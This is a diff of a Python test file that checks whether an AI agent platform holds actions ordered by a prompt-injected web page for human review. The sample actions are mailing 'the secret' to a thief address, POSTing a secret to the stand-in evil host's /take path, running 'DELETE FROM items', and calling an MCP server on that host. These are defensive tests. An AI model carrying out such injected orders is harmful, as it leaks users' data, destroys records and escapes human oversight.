@@ -9,14 +9,26 @@ from typing import Any
 import pytest
 from pytest_django import Settings
 
-from accounts.models import User
+from attack.outside import ask_for_password, listener
 from chat.models import Session
 from executions.credentials.keeping import NewCredential, keep
 from executions.credentials.secrets import UserPassword
-from executions.models import Execution, Review, Schedule
+from executions.models import Execution, Schedule
 from executions.reviews.deciding import decide
 from executions.schedules.running import run_due
-from tests.chat.engine.injected_page import EvilSite, Send, approve, call, evil, go_on, obey, send
+from tests.chat.engine.injected_page import (
+    EvilSite,
+    Send,
+    approve,
+    call,
+    evil,
+    go_on,
+    obey,
+    only_review,
+    reject,
+    send,
+    sender,
+)
 from tests.executions.blocks.adapters.smtp_server import MailServer, serve_mail
 from tests.executions.engine.conftest import work_on
 from tests.executions.people import import_valid, node
@@ -38,31 +50,25 @@ def mail_server(settings: Settings, monkeypatch: pytest.MonkeyPatch, evil: EvilS
         yield server
 
 
+def give_login(session: Session, provider: str, port: int) -> None:
+    assert session.user is not None
+    secret = UserPassword(username="ann@example.com", password="right")
+    keep(
+        session.user,
+        NewCredential(provider=provider, kind="user_password", secret=secret, host="127.0.0.1", port=port),
+    )
+
+
 @pytest.fixture
 def mail(mail_server: MailServer, session: Session) -> dict[str, Any]:
     """What the Send Email block takes, for a person with a login at that server."""
-    secret = UserPassword(username="ann@example.com", password="right")
-    assert session.user is not None
-    login = NewCredential(
-        provider="smtp", kind="user_password", secret=secret, host="127.0.0.1", port=mail_server.port
-    )
-    keep(session.user, login)
+    give_login(session, "smtp", mail_server.port)
     return {
         "to_email": "thief@example.com",
         "subject": "x",
         "body": "the secret",
         "config": {"smtp_server": "127.0.0.1", "smtp_port": mail_server.port},
     }
-
-
-def reject(answer: dict[str, Any], send: Send, call_id: str = "go") -> dict[str, Any]:
-    review = Review.objects.get(pk=answer["review_id"])
-    decide(review, approved=False, message="No.", by=review.user)
-    return go_on(answer, send, call_id)
-
-
-def only_review(**facts: Any) -> Review:
-    return Review.objects.get(state=Review.State.WAITING, **facts)
 
 
 # --- mail -----------------------------------------------------------------------------------------
@@ -116,20 +122,11 @@ def test_an_agent_that_mails_asks_at_its_node(
     assert len(mail_server.messages) == mails
 
 
-# --- requests, schedules, agents ------------------------------------------------------------------
-
-
-def sender(user: User | None, evil: EvilSite) -> Any:
-    """An agent that a person drew: it sends a request without being asked about."""
-    assert user is not None
-    inputs = {"url": f"http://{evil.address}/take", "method": "POST", "body": {"secret": "x"}}
-    return import_valid(
-        user, {"name": "Sender", "nodes": [node("out", "Send Web Request", **inputs)], "links": []}
-    )
+# --- schedules and other blocks -------------------------------------------------------------------
 
 
 def test_an_approved_schedule_is_made_once(send: Send, session: Session, evil: EvilSite) -> None:
-    agent = sender(session.user, evil)
+    agent = sender(session, evil)
     order = call("run_agent", "plan", library_agent_id=str(agent.pk), cron="0 9 * * *", use_defaults=True)
     answer = obey(send, evil, order)
     assert approve(answer, send)["status"] == "SCHEDULED"
@@ -143,7 +140,46 @@ def test_an_approved_schedule_is_made_once(send: Send, session: Session, evil: E
 
 
 def test_a_rejected_schedule_is_not_made(send: Send, session: Session, evil: EvilSite) -> None:
-    agent = sender(session.user, evil)
+    agent = sender(session, evil)
     order = call("run_agent", "plan", library_agent_id=str(agent.pk), cron="0 9 * * *", use_defaults=True)
     assert reject(obey(send, evil, order), send)["error"] == "not_approved"
     assert not Schedule.objects.exists()
+
+
+def test_a_statement_that_changes_a_database_is_asked_for(
+    send: Send, session: Session, evil: EvilSite, settings: Settings
+) -> None:
+    with listener(ask_for_password, 0) as database:
+        address = f"127.0.0.1:{database.port}"
+        settings.BOUNDARY_ALLOWED_HOSTS = [evil.address, address]
+        settings.BOUNDARY_PLAINTEXT_HOSTS = [address]
+        give_login(session, "database", database.port)
+        query = {
+            "host": "127.0.0.1",
+            "port": database.port,
+            "database": "shop",
+            "query": "DELETE FROM items",
+            "read_only": False,
+        }
+        answer = obey(send, evil, call("run_block", "sql", block_id="SQL Query", input_data=query))
+        assert answer["type"] == "review_required", answer
+        assert (only_review().outside_sources, database.connections) == ([evil.address], 0)
+        approve(answer, send)
+        assert database.connections == 1, "only the approved statement reaches the server"
+        assert go_on(answer, send, "again")["type"] == "error", (
+            "its server let nobody in, which is an answer too"
+        )
+        assert database.connections == 1
+
+
+def test_a_call_of_an_mcp_server_is_asked_for(send: Send, evil: EvilSite) -> None:
+    inputs = {
+        "server_url": f"http://{evil.address}/mcp",
+        "selected_tool": "tell",
+        "tool_arguments": {"it": "x"},
+    }
+    answer = obey(send, evil, call("run_block", "mcp", block_id="MCP Tool", input_data=inputs))
+    assert answer["type"] == "review_required", answer
+    assert (only_review().outside_sources, evil.heard) == ([evil.address], ["GET /page"])
+    reject(answer, send)
+    assert evil.heard == ["GET /page"]
